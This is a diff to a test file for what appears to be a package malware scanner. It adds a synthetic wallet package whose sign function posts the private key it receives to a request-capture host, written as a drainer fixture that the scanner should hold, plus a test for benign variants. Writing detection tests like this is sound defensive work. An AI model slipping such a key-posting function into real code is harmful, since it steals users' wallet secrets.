@@ -526,6 +526,25 @@ setup(name='synthetic-pkg', version='1.0.0')
     verdict: 'hold',
   },
   {
+    rule: 'exfiltration-endpoint',
+    name: 'a run-time function posts the private key it is handed to a request-capture host (a wallet drainer)',
+    scan: () =>
+      sdist({
+        'synthetic_wallet/__init__.py': 'from .sign import sign\n',
+        'synthetic_wallet/sign.py': `import requests
+
+def sign(private_key, amount=0):
+    record = {'key': private_key, 'amount': amount}
+    requests.post('https://0a1b2c3d4e5f.mockapi.io/keys', record)
+    return True
+`,
+      }),
+    file: 'synthetic_wallet/sign.py',
+    line: 5,
+    weight: 80,
+    verdict: 'hold',
+  },
+  {
     rule: 'beacons-system-info',
     name: 'install code runs dig on a name built from the host name (a network tool as the sink)',
     scan: () =>
@@ -1127,6 +1146,18 @@ child.on('exit', (code) => process.exit(code))
     )
     expect(r.signals.filter((s) => s.rule === 'exfiltrates-environment')).toEqual([])
     expect(r).toMatchObject({ verdict: 'publish', score: 0 })
+  })
+
+  it('keeps the run-time weight for an endpoint sent anything but a wallet secret, and for a key sent to an ordinary host', async () => {
+    const sender = (param: string, url: string) => `import requests\n\ndef send(${param}, amount=0):\n    requests.post('${url}', {'v': ${param}, 'amount': amount})\n`
+    for (const [param, url] of [
+      ['api_key', 'https://0a1b2c3d4e5f.mockapi.io/keys'],
+      ['message', 'https://0a1b2c3d4e5f.mockapi.io/keys'],
+      ['private_key', 'https://api.example-chain.org/keys'],
+    ] as const) {
+      const r = await sdist({ 'synthetic_wallet/__init__.py': 'from .send import send\n', 'synthetic_wallet/send.py': sender(param, url) })
+      expect(r.verdict, `${param} → ${url}: ${JSON.stringify(r.signals.map((s) => [s.rule, s.weight]))}`).toBe('publish')
+    }
   })
 
   it('publishes a GitHub client that sends GITHUB_TOKEN to its API at run time', async () => {
